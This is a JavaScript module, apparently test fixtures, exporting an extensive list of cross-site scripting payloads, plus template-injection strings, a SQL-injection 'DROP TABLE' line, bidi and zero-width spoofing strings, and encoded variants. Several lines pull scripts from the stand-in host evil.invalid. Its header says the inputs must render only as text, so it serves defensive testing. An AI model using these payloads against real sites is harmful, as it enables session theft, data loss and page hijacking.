// What people may write to have a page do something: none of it may ever be more than text.

const MARKUP = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.invalid/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "</title><script>alert(1)</script>",
  "</textarea><script>alert(1)</script>",
  "</style><script>alert(1)</script>",
  "<script/src=data:,alert(1)>",
  "<script type=module>import('//evil.invalid/x')</script>",
  "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
  "<template><script>alert(1)</script></template>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<base href=//evil.invalid/>",
  "<meta http-equiv=refresh content=0;url=//evil.invalid>",
  "<link rel=stylesheet href=//evil.invalid/x.css>",
  "<link rel=prefetch href=//evil.invalid/p>",
  "<style>@import '//evil.invalid/x.css';</style>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
  "<object data=javascript:alert(1)></object>",
  "<embed src=javascript:alert(1)>",
  "<form action=javascript:alert(1)><button>go</button></form>",
  "<isindex type=image src=1 onerror=alert(1)>",
  "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<portal src=//evil.invalid>",
];

const HANDLERS = [
  "<img src=x onerror=alert(1)>",
  "<img src=//evil.invalid/pixel.gif>",
  "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
  "<img src=x:alert(alt) onerror=eval(src) alt=1>",
  "<body onload=alert(1)>",
  "<video autoplay onplay=alert(1) src=x>",
  "<video><source onerror=alert(1)></video>",
  "<audio src=x onerror=alert(1)>",
  "<details open ontoggle=alert(1)>x</details>",
  "<input autofocus onfocus=alert(1)>",
  "<select autofocus onfocus=alert(1)></select>",
  "<textarea autofocus onfocus=alert(1)></textarea>",
  "<marquee onstart=alert(1)>Marquee</marquee>",
  "<div onpointerover=alert(1) style=position:fixed;inset:0>x</div>",
  "<a href=x onclick=alert(1) style=display:block>x</a>",
  "<p style=animation-name:x onanimationstart=alert(1)>",
  "<dialog open onclose=alert(1)><form method=dialog>",
  "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
  "\" onmouseover=alert(1) x=\"",
  "' onfocus=alert(1) autofocus='",
  "\" autofocus onfocus=alert(1) x=\"",
  "\"><img src=x onerror=alert(1)>",
  "'><svg onload=alert(1)>",
  "` onerror=alert(1) `",
  "x\" style=\"background:url(//evil.invalid/s)",
];

const SVG = [
  "<svg onload=alert(1)>",
  "<svg/onload=alert(1)//",
  "<svg><script>alert(1)</script></svg>",
  "<svg><script href=data:,alert(1) />",
  "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
  "<svg><use href=//evil.invalid/x.svg#a /></svg>",
  "<svg><image href=//evil.invalid/x.png></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<svg><set attributeName=href to=javascript:alert(1)>",
  "<svg><foreignObject><iframe onload=alert(1)></svg>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  "<svg><title><style><img src=x onerror=alert(1)></title></svg>",
];

const LINKS = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "javascript&colon;alert(1)",
  "javascript://example.org/%0Aalert(1)",
  "javascript:https://example.org/alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "vbscript:msgbox(1)",
  "blob:https://evil.invalid/1",
  "//evil.invalid/x",
  "https://evil.invalid/\"onmouseover=alert(1)",
  "https://evil.invalid/?<script>alert(1)</script>",
  "https://javascript:alert(1)@evil.invalid/",
  "http://evil.invalid/'><img src=x onerror=alert(1)>",
  "[a](javascript:alert(1))",
  "![a](x\" onerror=\"alert(1))",
  "<a href=\"javascript:alert(1)\">0:10</a>",
  "view-source:javascript:alert(1)",
];

const TEMPLATES = [
  "{{constructor.constructor('alert(1)')()}}",
  "{{7*7}}",
  "${alert(1)}",
  "`${alert(1)}`",
  "<%= alert(1) %>",
  "#{7*7}",
  "{name} {title} {reason}",
  "$& $1 $` $'",
  "%s%n%d",
  "__proto__",
  "constructor",
  "toString",
  "dangerouslySetInnerHTML={{__html:'<img src=x onerror=alert(1)>'}}",
  "{\"__html\":\"<img src=x onerror=alert(1)>\"}",
  "';alert(1);//",
  "\";alert(1);//",
  "</script><script>alert(1)</script>",
  "]]>alert(1)<![CDATA[",
  "*/alert(1)/*",
  "-->alert(1)<!--",
  "'; DROP TABLE metadata_videos; --",
  "WEBVTT\u00a000:00.000 --> 00:09.000 <v onload=alert(1)>",
];

const BIDI = [
  "photo\u202Egpj.exe",
  "\u2066<script>alert(1)</script>\u2069",
  "\u200Fx\u200E<img src=x onerror=alert(1)>",
  "\u061Cabc\u061C",
  "pay\u200Bpal \u2060alert(1)",
  "\uFEFF<svg onload=alert(1)>",
  "Z\u0351\u036B\u0343\u036A\u0302\u036B\u033D\u034F\u0334\u0319\u0324alert(1)",
  "\u2028alert(1)\u2029",
];

const TWICE = [MARKUP[0], HANDLERS[0], SVG[0], HANDLERS[21]];
const entities = (text) => text.replace(/[<>"'&]/g, (one) => `&#x${one.charCodeAt(0).toString(16)};`);
const named = (text) => text.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;");
const escaped = (text) => text.replace(/[<>]/g, (one) => `\\u00${one.charCodeAt(0).toString(16)}`);
const wide = (text) => text.replace(/[<>]/g, (one) => String.fromCharCode(one.charCodeAt(0) + 0xfee0));
const ENCODED = TWICE.flatMap((text) => [
  entities(text),
  named(text),
  named(named(text)),
  encodeURIComponent(text),
  encodeURIComponent(encodeURIComponent(text)),
  escaped(text),
  wide(text),
]);

export const PAYLOADS = [...MARKUP, ...HANDLERS, ...SVG, ...LINKS, ...TEMPLATES, ...BIDI, ...ENCODED];
